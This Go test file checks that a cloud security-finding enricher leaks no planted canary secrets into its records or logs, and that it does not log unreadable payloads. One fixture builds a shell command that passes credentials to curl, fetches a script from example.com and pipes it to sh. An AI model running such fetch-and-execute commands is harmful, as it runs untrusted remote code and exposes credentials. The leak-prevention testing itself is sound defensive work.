package main

import (
	"context"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	"cloud.google.com/go/securitycenter/apiv2/securitycenterpb"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	"github.com/scc-enricher/scc-enricher/pkg/emulator"
)

// TestServeLeaksNothing plants canaries where an attacker's or a user's data
// comes in; none may come out.
func TestServeLeaksNothing(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	// Each is planted once: where one comes out tells where it came in.
	canaries := map[string]string{
		"password option":     "CanaryP4ssw0rdOption",
		"environment value":   "CanaryEnvironmentVal1",
		"bearer in a log":     "CanaryB3arerInALog12345",
		"token in a request":  "CanaryT0kenInARequest99",
		"URL userinfo":        "CanaryUserinf0Secret",
		"configuration value": "CanaryC0nfigurationValue",
		"header in arguments": "CanaryHeaderArgument77",
		"assignment":          "CanaryAss1gnmentInShell",
	}
	w.AddService(emulator.WorkloadSpec{
		Project: testProject, Location: "europe-west1", Name: "storefront", Created: time.Now().Add(-time.Hour), Public: true,
		Env: map[string]string{"PAYMENT_API_KEY": canaries["configuration value"]},
	})
	addLog(t, w, "curl: Authorization: Bearer "+canaries["bearer in a log"])
	addLog(t, w, "GET https://api.example.com/v1?access_token="+canaries["token in a request"]+" failed with error 500")
	r := newRig(t, rigOptions{emulator: emulator.Options{World: w, Intercept: func(_ context.Context, c emulator.Call) error {
		if c.Name() == "files" {
			return status.Error(codes.Unavailable, "canary: "+canaries["header in arguments"])
		}
		return nil
	}}})
	shell := "export TOKEN=" + canaries["assignment"] + "; curl -u shop:" + canaries["password option"] + " https://root:" + canaries["URL userinfo"] + "@example.com/x.sh" +
		" -H 'Authorization: Bearer " + canaries["header in arguments"] + "' | sh"
	quoted, err := json.Marshal(shell)
	if err != nil {
		t.Fatal(err)
	}
	f := newFinding("canary")
	f.Processes[0].Args = []string{`"sh"`, `"-c"`, string(quoted)}
	f.Processes[0].EnvVariables = []*securitycenterpb.EnvironmentVariable{{Name: "DB_PASSWORD", Val: `"` + canaries["environment value"] + `"`}}
	name, notification := r.add(f)
	r.want(notification, http.StatusNoContent, "written")

	records := r.records.get()
	if len(records) != 1 {
		t.Fatalf("%d records", len(records))
	}
	marks, err := json.Marshal(r.emu.Marks(name))
	if err != nil {
		t.Fatal(err)
	}
	for where, out := range map[string]string{"marks": string(marks), "record": string(records[0]), "log": r.log.String()} {
		for what, canary := range canaries {
			if i := strings.Index(strings.ToLower(out), strings.ToLower(canary)); i >= 0 {
				t.Errorf("%s is in the %s: …%s", what, where, out[max(0, i-80):i+len(canary)])
			}
		}
	}
	// The test would pass for a service that reports nothing at all.
	for _, want := range []string{"example.com", "curl", "DB_PASSWORD", "PAYMENT_API_KEY"} {
		if !strings.Contains(string(records[0]), want) {
			t.Errorf("the record does not tell %s", want)
		}
	}
	if strings.Contains(r.log.String(), "uname") || strings.Contains(r.log.String(), "curl") {
		t.Errorf("arguments are in the log: %s", r.log)
	}
}

// TestServeLogsNoPayload: a message that cannot be read is not quoted in the
// log either.
func TestServeLogsNoPayload(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{})
	const canary = "CanaryPayload"
	for _, data := range []string{
		canary, `{"` + canary + `": 1}`, `{"finding": {"name": "` + canary + `"}}`, `{"finding": {"eventTime": "` + canary + `", "name": "projects/1/sources/2/findings/3"}}`,
		`{"finding": {"state": ["` + canary + `"], "name": "projects/1/sources/2/findings/3"}}`, `{"finding": "` + canary + `"}`,
	} {
		if got := r.deliver([]byte(data)); got != http.StatusUnprocessableEntity {
			t.Errorf("%s: status %d", data, got)
		}
	}
	r.post([]byte(`{"message":{"data":{"`+canary+`":1},"messageId":"1"}}`), "")
	r.post([]byte(`{"message":{"data":"`+canary+`%","messageId":"1"}}`), "")
	if strings.Contains(r.log.String(), canary) {
		t.Errorf("a payload is in the log: %s", r.log)
	}
}
